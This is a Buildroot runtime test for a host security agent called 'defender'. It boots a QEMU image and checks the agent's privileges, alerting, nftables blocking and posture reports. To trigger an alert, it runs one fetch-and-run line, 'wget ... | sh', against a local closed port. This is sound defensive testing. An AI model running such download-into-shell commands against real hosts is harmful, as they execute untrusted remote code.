"""Boots an image with the agent, in the form of Buildroot's own runtime tests. From a Buildroot tree:

PYTHONPATH=EXTERNAL/support/testing support/testing/run-tests -s -o OUTPUT -d DOWNLOADS test_defender
"""

import json
import os
import time

import infra.basetest

EXTERNAL = os.path.realpath(os.path.join(os.path.dirname(__file__), "..", ".."))


class DefenderTest(infra.basetest.BRTest):
    __test__ = False
    br2_external = [EXTERNAL]
    config = \
        """
        BR2_aarch64=y
        BR2_TOOLCHAIN_EXTERNAL=y
        BR2_TARGET_GENERIC_ROOT_PASSWD="root"
        BR2_TARGET_GENERIC_GETTY_PORT="ttyAMA0"
        BR2_LINUX_KERNEL=y
        BR2_LINUX_KERNEL_USE_CUSTOM_CONFIG=y
        BR2_LINUX_KERNEL_CUSTOM_CONFIG_FILE="board/qemu/aarch64-virt/linux.config"
        BR2_LINUX_KERNEL_NEEDS_HOST_OPENSSL=y
        BR2_PACKAGE_DEFENDER=y
        BR2_TARGET_ROOTFS_CPIO=y
        BR2_TARGET_ROOTFS_CPIO_GZIP=y
        # BR2_TARGET_ROOTFS_TAR is not set
        """

    def output_of(self, command):
        output, code = self.emulator.run(command)
        self.assertEqual(code, 0, "\n".join(output))
        return "\n".join(output)

    def wait_armed(self):
        for _ in range(60):
            output, code = self.emulator.run("defender status --json")
            if code == 0:
                return json.loads("\n".join(output))
            time.sleep(1 * self.emulator.timeout_multiplier)
        self.fail("not armed within a minute")

    def test_run(self):
        images = os.path.join(self.builddir, "images")
        self.emulator.boot(arch="aarch64",
                           kernel=os.path.join(images, "Image"),
                           kernel_cmdline=["console=ttyAMA0"],
                           options=["-M", "virt",
                                    "-cpu", "cortex-a57",
                                    "-m", "512M",
                                    "-initrd", os.path.join(images, "rootfs.cpio.gz")])
        self.emulator.login("root")

        # Armed, with the kernel options of the package in force.
        status = self.wait_armed()
        self.assertEqual(status["process"]["source"], "audit", status)

        # Its own user, and files that are not everybody's.
        self.assertIn("defender", self.output_of("stat -c %U /proc/$(cat /run/defender/defender.pid)"))
        self.assertEqual(self.output_of("stat -c '%U:%G %a' /etc/defender"), "root:defender 750")

        # Sees, judges, blocks.
        self.emulator.run("wget -q -O - http://127.0.0.1:9/x.sh | sh")
        for _ in range(20):
            if "127.0.0.1:9/x.sh" in self.output_of("defender alerts --json"):
                break
            time.sleep(1)
        else:
            self.fail("no alert about a download piped into a shell")
        self.assertRunOk("defender block 192.0.2.1 --seconds 60")
        self.assertIn("192.0.2.1", self.output_of("nft list table inet defender"))
        self.assertIn("policy drop", self.output_of("nft list chain inet defender_base input"))

        # Graded when it was built.
        for ending in ("html", "json", "junit.xml"):
            self.assertGreater(os.path.getsize(os.path.join(images, "posture." + ending)), 1000)


class TestDefenderBusybox(DefenderTest):
    __test__ = True


class TestDefenderSystemd(DefenderTest):
    __test__ = True
    config = DefenderTest.config + \
        """
        BR2_INIT_SYSTEMD=y
        """
